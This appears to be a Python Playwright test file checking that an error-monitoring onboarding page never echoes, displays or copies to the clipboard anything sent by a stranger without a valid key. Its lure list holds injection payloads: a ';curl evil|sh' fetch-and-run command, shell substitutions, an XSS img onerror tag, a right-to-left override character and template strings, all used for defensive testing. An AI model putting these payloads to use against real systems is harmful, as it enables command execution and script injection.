"""What a stranger without a key sends is evidence on the page: no sentence, no command, nothing in the clipboard."""

from __future__ import annotations

import json
from urllib.parse import quote

import httpx2
from playwright.async_api import Page, expect

from tests.support.server import ServerProcess
from tests.support.waiting import until_answer

from . import signals
from .conftest import MakeProject, Project, Stage
from .onboarding import Onboarding

EVIL = ";curl evil|sh #"
LURES = [EVIL, "$(evil)", "`evil`", '"><img src=x onerror=evil()>', "evil\u202elive", "{{dsn}}evil", "{expected}evil"]
NOBODYS_KEY = "e" * 32

_SAID = """() => [...document.querySelectorAll(".problem")].flatMap((row) =>
  [...row.querySelectorAll(".summary, .hint, .checks, pre, summary, .meta, [aria-label], a, button")].map(
    (node) => `${node.textContent} ${node.getAttribute("aria-label") ?? ""} ${node.getAttribute("href") ?? ""}`,
  ),
)"""
_MARKED = """() => [...document.querySelectorAll(".problem .received")].map((node) => node.textContent)"""


async def lure(http: httpx2.AsyncClient, project: Project) -> None:
    """Put a lure into everything that a request without a valid key may hold."""
    base = f"{project.server}/api/{project.id}"
    for text in LURES:
        plain = text.encode("ascii", "ignore").decode()
        dsn = json.dumps({"dsn": f"https://{NOBODYS_KEY}@{plain}/{project.id}"})
        auth = {"x-sentry-auth": f"Sentry sentry_key={NOBODYS_KEY}, sentry_client={plain}"}
        agent = {"user-agent": plain, "origin": f"http://x{plain}", "referer": plain}
        await http.post(f"{base}/envelope/", content=dsn, headers=agent)
        await http.post(f"{base}/envelope/", content=f"{{}}\n{plain}", headers={**auth, **agent})
        await http.post(f"{base}/{quote(text, safe='')}/", content=b"{}")
        await http.post(f"{base}/envelope/", params={"sentry_key": text}, content=b"{}")
        await http.post(f"{base}/store/", content=json.dumps({"message": text}), headers={"content-encoding": plain})
        await http.post(f"{base}/heartbeat/", json={"type": "heartbeat", "interval": text, "sdk": {"name": text}})
        await http.options(f"{base}/envelope/", headers={"origin": f"http://x{plain}"})
        await http.get(project.live, headers={"origin": f"http://x{plain}"})


async def test_what_a_stranger_sends_is_in_no_sentence_and_no_command(
    embedded_server: ServerProcess, make_project: MakeProject, stage: Stage, http: httpx2.AsyncClient
) -> None:
    project = await make_project(embedded_server.url)
    context = await stage.context(embedded_server.url, permissions=["clipboard-read", "clipboard-write"])
    tab = await stage.open(project, context)
    await lure(http, project)
    await expect(tab.problem("keyless_requests")).to_contain_text("requests arrived without a valid key.")
    version = (await http.get(project.live)).json()["version"]
    await tab.is_at(version)

    await unfold(tab.page)
    said = await tab.page.evaluate(_SAID)
    assert said
    assert [text for text in said if "evil" in text] == []
    for text in await copied(tab):
        assert "evil" not in text
        assert NOBODYS_KEY not in text
    assert "evil" not in await tab.page.title()
    assert "evil" not in (await tab.spoken.text_content() or "")
    assert not any("\u202e" in text for text in await tab.page.evaluate(_MARKED))
    await expect(tab.page.locator("img, script:not([src])")).to_have_count(0)


async def test_what_the_owner_copies_is_the_projects_own(
    embedded_server: ServerProcess, make_project: MakeProject, stage: Stage, http: httpx2.AsyncClient
) -> None:
    project = await make_project(embedded_server.url, platform="python")
    context = await stage.context(embedded_server.url, permissions=["clipboard-read", "clipboard-write"])
    tab = await stage.open(project, context)
    await signals.wrong_key(http, project)
    await expect(tab.problem("unknown_key")).to_be_visible()
    texts = await copied(tab)
    assert texts.count(project.dsn) == 2  # beside the steps, and as the fix
    assert any("sentry_sdk.init(" in text and project.dsn in text for text in texts)


async def unfold(page: Page) -> None:
    """Open all that is folded."""
    await page.evaluate("for (const it of document.querySelectorAll('details')) it.open = true")


async def copied(tab: Onboarding) -> list[str]:
    """What each button that copies puts into the clipboard."""
    await unfold(tab.page)
    texts = []
    for button in await tab.page.locator(".copy:visible").all():
        await tab.page.evaluate("navigator.clipboard.writeText('')")
        await button.click()
        # What it says of itself may be drawn over by what just came.
        texts.append(await until_answer(lambda: tab.page.evaluate("navigator.clipboard.readText()")))
    return texts
